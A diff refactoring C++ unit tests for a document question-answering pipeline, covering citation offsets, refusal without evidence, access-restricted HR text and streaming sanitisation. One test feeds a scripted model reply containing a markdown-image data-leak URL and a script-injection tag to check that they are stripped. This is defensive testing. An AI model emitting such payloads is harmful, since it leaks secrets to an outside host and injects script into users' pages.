@@ -75,14 +75,20 @@ search::AccessFilter public_only() {
   return f;
 }
 
+// Asks `question` as a reader of `access` (the public folder by default).
+Result<AnswerResult> ask(const AnswerPipeline& pipeline, const std::string& question, Collect& events,
+                         const search::AccessFilter& access = public_only()) {
+  AnswerRequest req;
+  req.question = question;
+  req.access = access;
+  return pipeline.answer(req, events);
+}
+
 TEST(Pipeline, ExtractiveAnswerCitesTheChunkWithExactOffsets) {
   FakeRetriever retriever(corpus());
   AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
-  AnswerRequest req;
-  req.question = "Combien de jours de conges payes par an ?";
-  req.access = public_only();
   Collect events;
-  auto r = pipeline.answer(req, events);
+  auto r = ask(pipeline, "Combien de jours de conges payes par an ?", events);
   ASSERT_TRUE(r.is_ok()) << r.status().to_string();
   EXPECT_TRUE(r->answered);
   EXPECT_EQ(r->origin, "extractive");
@@ -109,11 +115,8 @@ TEST(Pipeline, ExtractiveAnswerCitesTheChunkWithExactOffsets) {
 TEST(Pipeline, RefusesInTheQuestionsLanguageWithoutEvidence) {
   FakeRetriever retriever(corpus());
   AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
-  AnswerRequest req;
-  req.question = "What is the parking policy for visitors?";
-  req.access = public_only();
   Collect events;
-  auto r = pipeline.answer(req, events);
+  auto r = ask(pipeline, "What is the parking policy for visitors?", events);
   ASSERT_TRUE(r.is_ok());
   EXPECT_FALSE(r->answered);
   EXPECT_TRUE(r->citations.empty());
@@ -127,20 +130,16 @@ TEST(Pipeline, RestrictedTextNeverReachesTheModelOrTheReply) {
   PipelineOptions options;
   options.min_evidence = 0.0;
   AnswerPipeline pipeline(retriever, &echo, nullptr, nullptr, nullptr, options);
-  AnswerRequest req;
-  req.question = "conges payes par an";
-  req.access = public_only();
   Collect events;
-  auto r = pipeline.answer(req, events);
+  auto r = ask(pipeline, "conges payes par an", events);
   ASSERT_TRUE(r.is_ok()) << r.status().to_string();
   EXPECT_NE(r->text.find("25 jours de conges"), std::string::npos) << "the echo shows the public context";
   EXPECT_EQ(r->text.find("plan social"), std::string::npos);
   EXPECT_EQ(r->text.find("suppressions"), std::string::npos);
   search::AccessFilter hr;
   hr.folders.insert("hr");
-  req.access = hr;
   Collect hr_events;
-  auto allowed = pipeline.answer(req, hr_events);
+  auto allowed = ask(pipeline, "conges payes par an", hr_events, hr);
   ASSERT_TRUE(allowed.is_ok());
   EXPECT_NE(allowed->text.find("plan social"), std::string::npos) << "control: the echo shows what is allowed";
 }
@@ -149,18 +148,14 @@ TEST(Pipeline, ModelIsNotCalledOnWeakEvidenceAndUnbackedRepliesAreNotAnswers) {
   FakeRetriever retriever(corpus());
   ScriptedProvider model({"Les conges sont de 99 jours [7]. ", "Voir aussi [2]."});
   AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
-  AnswerRequest req;
-  req.question = "Quelle est la couleur du logo de la cantine ?";
-  req.access = public_only();
   Collect weak;
-  auto r = pipeline.answer(req, weak);
+  auto r = ask(pipeline, "Quelle est la couleur du logo de la cantine ?", weak);
   ASSERT_TRUE(r.is_ok());
   EXPECT_EQ(model.calls, 0);
   EXPECT_FALSE(r->answered);
 
-  req.question = "Combien de jours de conges payes ?";
   Collect events;
-  auto s = pipeline.answer(req, events);
+  auto s = ask(pipeline, "Combien de jours de conges payes ?", events);
   ASSERT_TRUE(s.is_ok()) << s.status().to_string();
   EXPECT_EQ(model.calls, 1);
   EXPECT_EQ(s->text.find("[7]"), std::string::npos) << s->text;
@@ -174,11 +169,8 @@ TEST(Pipeline, ModelRepliesAreVerifiedAndSanitisedWhileStreaming) {
                           "![x](http://127.0.0.2/leak?d=secret) <script>alert(1)</script> ",
                           "\"40 semaines\" [1]."});
   AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
-  AnswerRequest req;
-  req.question = "Combien de jours de conges payes ?";
-  req.access = public_only();
   Collect events;
-  auto r = pipeline.answer(req, events);
+  auto r = ask(pipeline, "Combien de jours de conges payes ?", events);
   ASSERT_TRUE(r.is_ok()) << r.status().to_string();
   EXPECT_TRUE(r->answered);
   EXPECT_EQ(r->text.find("127.0.0.2"), std::string::npos) << r->text;
@@ -200,11 +192,8 @@ TEST(Pipeline, ProviderFailureIsReturned) {
   FakeRetriever retriever(corpus());
   ScriptedProvider model({"Partial "}, unavailable("provider down"));
   AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
-  AnswerRequest req;
-  req.question = "Combien de jours de conges payes ?";
-  req.access = public_only();
   Collect events;
-  auto r = pipeline.answer(req, events);
+  auto r = ask(pipeline, "Combien de jours de conges payes ?", events);
   ASSERT_FALSE(r.is_ok());
   EXPECT_EQ(r.status().code(), ErrorCode::kUnavailable);
 }
